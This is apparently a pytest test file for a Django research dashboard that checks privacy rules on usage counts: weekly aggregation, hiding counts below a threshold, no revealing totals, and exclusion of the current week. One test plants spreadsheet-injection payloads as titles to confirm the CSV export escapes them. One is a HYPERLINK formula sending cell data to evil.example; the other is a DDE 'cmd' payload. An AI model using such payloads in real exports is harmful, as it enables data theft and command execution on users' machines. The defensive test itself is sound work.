"""Usage counts and the researchers' dashboard: only counts per step and week
are kept, and small counts are never shown."""

import csv
import datetime
import io
import re

import pytest
from django.db.models import F
from django.test import Client

from modules.content.models import Step
from modules.journal.models import today
from modules.staff.dashboard import weeks
from modules.staff.models import UsageCount
from modules.staff.usage import week_of
from tests.helpers import answers_for, step_path


@pytest.mark.database
@pytest.mark.django_db
def test_completions_are_counted_per_step_and_week_only(client, program):
    step = Step.objects.filter(stage__track=program, kind="reflection").first()
    client.post(step_path(step), answers_for(step))
    client.post(step_path(step), answers_for(step))  # revisiting does not count twice
    row = UsageCount.objects.get(metric="step_completed", subject=str(step.uuid))
    assert row.count == 1
    assert row.week.weekday() == 0
    fields = {f.name for f in UsageCount._meta.get_fields()}
    assert fields == {"id", "metric", "subject", "week", "count"}


def dashboard_cells(html, label):
    row = re.search(
        r"<tr class=\"usage-[a-z]+\"><th scope=\"row\">(?:&nbsp;)*(?:<strong>)?"
        + re.escape(label)
        + r"(?:</strong>)?</th>(.*?)</tr>",
        html,
    )
    assert row, label
    return [
        re.sub(r"<[^>]+>", "", cell)
        for cell in re.findall(r"<td>(.*?)</td>", row.group(1))
    ]


def move_counts_back_a_week():
    """What visitors did this week, as if it had been last week: the
    dashboard shows completed weeks only."""
    UsageCount.objects.update(week=F("week") - datetime.timedelta(weeks=1))


@pytest.fixture(autouse=True)
def _k_of_five(settings):
    """These tests were written for k = 5 (the default is 10)."""
    settings.MIN_CELL = 5


@pytest.mark.django_db
def test_dashboard_counts_match_what_visitors_did_with_small_counts_hidden(
    program, admin_client
):
    stage = program.stages.first()
    steps = list(stage.steps.all())
    # Seven visitors finish the first stage; two more only its first step.
    for _ in range(7):
        visitor = Client()
        for step in steps:
            assert visitor.post(step_path(step), answers_for(step)).status_code == 302
        visitor.post("/en/diary/", {"strength": "3"})
    for _ in range(2):
        Client().post(step_path(steps[0]), answers_for(steps[0]))
    saver = Client()
    saver.post(step_path(steps[0]), answers_for(steps[0]))
    saver.post("/en/save/")
    move_counts_back_a_week()

    html = admin_client.get("/admin/dashboard/").content.decode()
    first = dashboard_cells(html, steps[0].title)
    assert first[-2:] == ["10", "10"]  # last week, and the total
    assert dashboard_cells(html, steps[-1].title)[-1] == "7"
    assert dashboard_cells(html, f"1. {stage.title}")[-1] == "7"
    assert dashboard_cells(html, program.title)[-1] == "0"
    saved = dashboard_cells(html, "Journals saved with a code")
    assert saved[-2:] == ["fewer than 5", "not shown"]
    assert dashboard_cells(html, "Urge diary entries")[-1] == "7"
    assert "<svg" in html
    assert "<rect" in html

    response = admin_client.get("/admin/dashboard.csv")
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows[0][-1] == "Total"
    by_label = {(row[0], row[2]): row[3:] for row in rows[1:]}
    for label in (steps[0].title, steps[-1].title, f"1. {stage.title}", program.title):
        assert by_label[(program.slug, label)] == dashboard_cells(html, label), label
    assert by_label[("", "Journals saved with a code")] == dashboard_cells(
        html, "Journals saved with a code"
    )
    by_label = {row[2]: row[3:] for row in rows[1:]}
    assert "fewer than 5" in by_label["Journals saved with a code"]


def csv_rows(admin_client):
    response = admin_client.get("/admin/dashboard.csv")
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.django_db
def test_no_total_gives_away_a_hidden_week(program, admin_client):
    stage = program.stages.first()
    step = stage.steps.first()
    columns = weeks()
    # One small week beside a large one: a shown total minus the shown week
    # would be the hidden count.
    for subject, metric, counts in (
        (step.uuid, "step_completed", {columns[-2]: 3, columns[-1]: 7}),
        (stage.uuid, "stage_completed", {columns[-3]: 2, columns[-1]: 9}),
        ("", "journal_saved", {columns[0]: 1, columns[1]: 1, columns[2]: 1}),
    ):
        for week, count in counts.items():
            UsageCount.objects.create(
                metric=metric, subject=str(subject), week=week, count=count
            )
    html = admin_client.get("/admin/dashboard/").content.decode()
    step_row = dashboard_cells(html, step.title)
    assert step_row[-3:] == ["fewer than 5", "7", "not shown"]
    stage_row = dashboard_cells(html, f"1. {stage.title}")
    assert stage_row[-4:] == ["fewer than 5", "0", "9", "not shown"]
    saved_row = dashboard_cells(html, "Journals saved with a code")
    assert saved_row[:3] == ["fewer than 5"] * 3
    assert saved_row[-1] == "not shown"
    for row in csv_rows(admin_client)[1:]:
        cells, total = row[3:-1], row[-1]
        if "fewer than 5" in cells:
            assert total == "not shown", row
    # The chart of stage totals leaves the hidden total out too.
    chart = re.search(r"<svg.*?</svg>", html, re.S).group(0)
    assert ">11<" not in chart
    assert ">&lt;5<" not in chart


@pytest.mark.django_db
def test_csv_export_cannot_carry_a_spreadsheet_formula(program, admin_client):
    step = program.stages.first().steps.first()
    step.title = '=HYPERLINK("http://evil.example/?d="&A1,"Click")'
    step.save()
    stage = program.stages.first()
    program.title = "+1+cmd|' /C calc'!A0"
    program.save()
    rows = csv_rows(admin_client)
    labels = [row[2] for row in rows[1:]]
    assert "'" + step.title in labels
    assert "'" + program.title in labels
    assert f"1. {stage.title}" in labels
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


@pytest.mark.django_db
def test_the_dashboard_for_the_current_week_shows_nothing(program, admin_client):
    """A count that moved while a researcher watched would show what one
    visitor just did: this week is not on the dashboard or in its export."""
    step = program.stages.first().steps.first()
    this_week = week_of(today())
    UsageCount.objects.create(
        metric="step_completed", subject=str(step.uuid), week=this_week, count=40
    )
    html = admin_client.get("/admin/dashboard/").content.decode()
    assert this_week.isoformat() not in html
    assert dashboard_cells(html, step.title) == ["0"] * 9
    rows = csv_rows(admin_client)
    assert this_week.isoformat() not in rows[0]
    assert all("40" not in row[3:] for row in rows[1:])


@pytest.mark.django_db
def test_small_counts_follow_the_configured_k(program, admin_client, settings):
    settings.MIN_CELL = 10
    step = program.stages.first().steps.first()
    UsageCount.objects.create(
        metric="step_completed", subject=str(step.uuid), week=weeks()[-1], count=7
    )
    html = admin_client.get("/admin/dashboard/").content.decode()
    assert dashboard_cells(html, step.title)[-2:] == ["fewer than 10", "not shown"]
